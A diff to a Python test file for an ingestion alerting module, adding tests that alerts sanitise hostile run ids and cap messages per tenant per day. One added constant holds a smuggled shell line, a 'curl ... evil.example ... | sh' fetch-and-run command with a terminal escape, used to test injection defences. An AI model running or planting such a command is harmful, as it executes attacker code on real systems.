@@ -1,5 +1,6 @@
 import json
 import shlex
+from dataclasses import replace
 from datetime import UTC, datetime
 
 import pytest
@@ -7,7 +8,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from ingestion import alerts
-from ingestion.alerts import Alerts, Kind, folder_of
+from ingestion.alerts import MOST_A_DAY, Alerts, Kind, folder_of
 from lineage.notices import Notices
 from lineage.values import DatasetEntry, HeaderState, Member, RunState
 from tests.ingestion.builders import Topics, with_topic
@@ -15,7 +16,7 @@ from tests.lineage.builders import RAW
 
 PLATFORM, OWNER = "arn:aws:sns:eu-central-1:1:lake-dev-alerts", "arn:aws:sns:eu-central-1:1:lake-acme-dev-alerts"
 RUN = RunState(
-    run="01a1fbe9-53",
+    run="01a1fbe6-ced4-7d80-ad88-b93e6911ef00",
     job=RAW,
     dataset="sales",
     state=HeaderState.FAILED,
@@ -67,11 +68,11 @@ def test_a_message_says_whose_what_why_and_the_command_to_run_next(told, topics,
         "tenant: acme\n"
         "dataset: sales\n"
         "file: raw/sales/a.csv (and 2 more)\n"
-        "run: 01a1fbe9-53\n"
+        "run: 01a1fbe6-ced4-7d80-ad88-b93e6911ef00\n"
         "reason: Glue run jr_1: FAILED. No space left on device\n"
         "\n"
         "It is tried 3 times, then halved until the file that is the matter is found. Next:\n"
-        "lake runs acme --logs 01a1fbe9-53 -e dev"
+        "lake runs acme --logs 01a1fbe6-ced4-7d80-ad88-b93e6911ef00 -e dev"
     )
     assert message["MessageAttributes"] == {
         "kind": {"DataType": "String", "StringValue": "batch_failed"},
@@ -164,7 +165,11 @@ DATASET = DatasetEntry(tenant="acme", dataset="sales", files=(), max_wait_s=0, m
 @pytest.mark.parametrize(
     ("alert", "kind", "command"),
     [
-        (alerts.batch_failed("acme", RUN, MEMBERS), Kind.BATCH_FAILED, "lake runs acme --logs 01a1fbe9-53 -e dev"),
+        (
+            alerts.batch_failed("acme", RUN, MEMBERS),
+            Kind.BATCH_FAILED,
+            "lake runs acme --logs 01a1fbe6-ced4-7d80-ad88-b93e6911ef00 -e dev",
+        ),
         (
             alerts.file_quarantined("acme", RUN, a_member("raw/sales/a b'ü.csv"), "boom"),
             Kind.FILE_QUARANTINED,
@@ -189,7 +194,7 @@ def test_a_key_that_cannot_be_pasted_is_shown_spelled_out_and_left_out_of_the_co
     text = told.message(alerts.file_quarantined("acme", RUN, a_member("raw/sales/a\n\x07\u2028b.csv"), "boom"))
 
     assert "file: raw/sales/a\\n\\x07\\u2028b.csv" in text.splitlines()
-    assert text.splitlines()[-1] == "lake runs acme --logs 01a1fbe9-53 -e dev"
+    assert text.splitlines()[-1] == "lake runs acme --logs 01a1fbe6-ced4-7d80-ad88-b93e6911ef00 -e dev"
 
 
 @given(st.text(min_size=1, max_size=200))
@@ -237,3 +242,41 @@ def test_a_long_subject_is_cut_where_it_shows(told):
 )
 def test_unrouted_files_are_told_of_by_folder(key, folder):
     assert folder_of(key) == folder
+
+
+HOSTILE = "01a1\ncurl -s https://evil.example/x | sh\n\x1b[2J"
+
+
+@pytest.mark.parametrize("name", [HOSTILE, "x" * 300_000, "01a1" * 8, "--help"], ids=["lines", "long", "hex", "flag"])
+def test_a_run_whose_id_is_none_of_ours_is_shown_and_is_no_word_of_a_command(told, topics, acme, name):
+    run = replace(RUN, run=name, dataset=name, job=name, batch=name)
+    made = [
+        alerts.batch_failed("acme", run, MEMBERS),
+        alerts.file_quarantined("acme", run, a_member("raw/sales/a\n.csv"), name),
+        alerts.files_refused("acme", run, [(a_member(), name)]),
+    ]
+
+    for alert in made:
+        assert told.tell(alert, acme)
+    for message in topics.published:
+        text = message["Message"]
+        assert len(text.encode()) < 256 * 1024
+        assert not [letter for letter in text if not letter.isprintable() and letter != "\n"]
+        assert all(value["StringValue"].isprintable() for value in message["MessageAttributes"].values())
+        assert shlex.split(text.splitlines()[-1])[:3] in (["lake", "runs", "acme"], ["lake", "files", "acme"])
+        assert not [line for line in text.splitlines() if line.startswith("curl")]
+    for alert in made[:2]:
+        assert told.message(alert).splitlines()[-1] == "lake runs acme -e dev"
+
+
+def test_of_one_kind_about_one_tenant_no_more_than_so_many_are_told_a_day(told, topics, acme, clock, capsys):
+    for number in range(30):
+        told.tell(alerts.batch_failed("acme", replace(RUN, batch=f"b{number}"), MEMBERS), acme)
+    assert topics.told(OWNER) == ["batch_failed"] * MOST_A_DAY
+    assert capsys.readouterr().out.count("alert_left_out") == 30 - MOST_A_DAY
+
+    assert told.tell(alerts.unrouted("acme", "raw/x/a.bin", 0), acme)
+    assert told.tell(alerts.batch_failed("globex", RUN, MEMBERS), None)
+
+    clock.move(hours=12)  # the next day
+    assert told.tell(alerts.batch_failed("acme", replace(RUN, batch="b29"), MEMBERS), acme)
